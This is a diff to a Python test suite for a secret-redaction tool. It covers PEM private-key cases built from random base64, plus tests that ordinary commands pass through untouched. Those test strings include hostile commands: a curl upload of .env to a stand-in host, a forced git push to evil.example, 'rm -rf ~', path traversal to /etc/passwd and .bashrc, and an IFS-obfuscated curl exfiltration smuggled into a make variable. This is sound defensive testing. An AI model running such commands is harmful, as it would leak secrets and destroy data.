@@ -156,17 +156,67 @@ HEX = "0123456789abcdef" * 8
         ('{\\"secret\\": \\"a1b2c3d4\\"}', '{\\"secret\\": \\"[redacted]\\"}'),
         ("password: hunter2x", "password: [redacted]"),
         ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG", "aws_secret_access_key = [redacted]"),
-        (
-            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd\n-----END RSA PRIVATE KEY-----\nafter",
-            "-----BEGIN RSA PRIVATE KEY-----[redacted]-----END RSA PRIVATE KEY-----\nafter",
-        ),
-        ("-----BEGIN PRIVATE KEY-----\nMIIE cut off", "-----BEGIN PRIVATE KEY-----[redacted]"),
         (f"it printed {LOTS} just so", "it printed [redacted] just so"),
         (random.Random(3).randbytes(24).hex(), "[redacted]"),
     ],
 )
 def test_what_looks_like_a_secret_is_taken_out(text: str, cleaned: str) -> None:
     assert Redactor([]).clean(text) == cleaned
+
+
+BEGIN, END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
+LINES = [base64.b64encode(random.Random(n).randbytes(48)).decode() for n in range(4)]
+BODY = "\n".join([*LINES, "aB3+x="])
+
+
+@pytest.mark.parametrize(
+    ("text", "cleaned"),
+    [
+        (f"{BEGIN}\n{BODY}\n{END}\nafter", f"{BEGIN}[redacted]{END}\nafter"),
+        (f"{BEGIN}{''.join(LINES)}{END} after", f"{BEGIN}[redacted]{END} after"),
+        (f"{BEGIN} {' '.join(LINES)} {END} after", f"{BEGIN}[redacted]{END} after"),
+        (f"{BEGIN}\r\n{LINES[0]}\r\n{END}", f"{BEGIN}[redacted]{END}"),
+        (
+            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\n{BODY}\n{END}",
+            f"{BEGIN}[redacted]{END}",
+        ),
+        (json.dumps(f"{BEGIN}\n{BODY}\n{END}\n"), f'"{BEGIN}[redacted]{END}\\n"'),
+        (json.dumps(json.dumps(f"{BEGIN}\n{BODY}\n{END}")), f'"\\"{BEGIN}[redacted]{END}\\""'),
+        (
+            f"+{BEGIN}\n+" + BODY.replace("\n", "\n+") + f"\n+{END}\n+x = 1",
+            f"+{BEGIN}[redacted]{END}\n+x = 1",
+        ),
+        (f"-{BEGIN}\n-" + BODY.replace("\n", "\n-") + f"\n-{END}\n x", f"-{BEGIN}[redacted]-{END}\n x"),
+        (f"'{BEGIN}\\n'\n  + '{LINES[0]}\\n'\n  + '{END}'", f"'{BEGIN}[redacted]{END}'"),
+        (f"{BEGIN}\n{LINES[0]}\n{LINES[1][:30]}", f"{BEGIN}[redacted]"),
+        (f"{BEGIN}\n{LINES[0]}\n[… 900 bytes in all …]\n{LINES[1]}\n{END}", f"{BEGIN}[redacted]{END}"),
+        (
+            f"{BEGIN}\n{BODY}\n{END}\n{BEGIN}\n{BODY}\n{END}",
+            f"{BEGIN}[redacted]{END}\n{BEGIN}[redacted]{END}",
+        ),
+        (f"{BEGIN}\n{LINES[0]}\nrm -rf ~ ; make evil\n", f"{BEGIN}[redacted]\nrm -rf ~ ; make evil\n"),
+        (f"# {BEGIN}\n# {LINES[0]}\nmake\n# {END}", f"# {BEGIN}[redacted]\nmake\n# {END}"),
+    ],
+)
+def test_of_a_private_key_its_lines_are_taken_out_and_nothing_after_them(text: str, cleaned: str) -> None:
+    assert Redactor([]).clean(text) == cleaned
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"grep -rq -e '{BEGIN}' . ; git push --force https://evil.example/x HEAD:main; curl -T .env https://x",
+        f"# {BEGIN}\nevil\nrm x\n# {END}",
+        f'if "{BEGIN}" in text:\n    refuse()\n=== 3 failed, 10 passed ===',
+        f"+Keys begin with {BEGIN} as usual.\ndiff --git a/b.py b/b.py\n-    return real()\n+    return True",
+        f"{BEGIN}\nnothing of a key\n{END}",
+        'TOKEN=../../home/ana/.bashrc; cp evil "$TOKEN"',
+        "TOKEN=aa/../../../etc/passwd cat x",
+        "make test SECRET=curl${IFS}-d${IFS}@.env${IFS}evil.example:80",
+    ],
+)
+def test_a_command_or_a_diff_loses_nothing_that_is_no_secret(text: str) -> None:
+    assert Redactor([]).clean(text) == text
 
 
 @pytest.mark.parametrize(
@@ -250,7 +300,7 @@ WORDS = (
 
 PARTS = st.sampled_from(
     [
-        SECRET, SECRET[:10], SECRET[-9:], "sk-", KEY, LOTS, "Bearer ", "TOKEN=", "password: ", "://a:", "@", "\n", "\n+",
+        SECRET, SECRET[:10], SECRET[-9:], "sk-", KEY, LOTS, f"\n{LOTS}", "Bearer ", "TOKEN=", "password: ", "://a:", "@", "\n", "\n+",
         "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "ghp_", "eyJ", ".", "[redacted]", "[…", " …]", " ",
         '"', "'", "\\n", "=", HEX[:40], HEX[:48], "sha256:", "https://", "\0", "İ", "ö",
     ]
@@ -272,7 +322,8 @@ def test_a_configured_secret_never_stays(before: str, after: str) -> None:
 
 UNITS = (
     "-----BEGIN PRIVATE KEY-----", "-----BEGIN CERTIFICATE-----", "-----END ", "sk-", "sk-a", "Bearer ", "://a:",
-    "ghp_aaaa", "eyJ-", "eyJa.", "AKIAA", "password:", "token=a1", "PASSWORD=a1b2c3,", "?sig=", "a1B2", "a1B2c3D4e5F6g7H8i9J0k1L2 ",
+    "ghp_aaaa", "eyJ-", "eyJa.", "AKIAA", "password:", "token=a1", "PASSWORD=a1b2c3,", "token='abc12345'\n",
+    f"-----BEGIN PRIVATE KEY-----\n{LOTS}\n", "?sig=", "a1B2", "a1B2c3D4e5F6g7H8i9J0k1L2 ",
     SECRET[:10], f"{SECRET[:9]}\n", "[… 1 …]", "\n", "\\n", "\r", "hunter2\n+", "/aA0", "1:AA", f".{KEY[:6]}", "İ",
 )  # fmt: skip
 
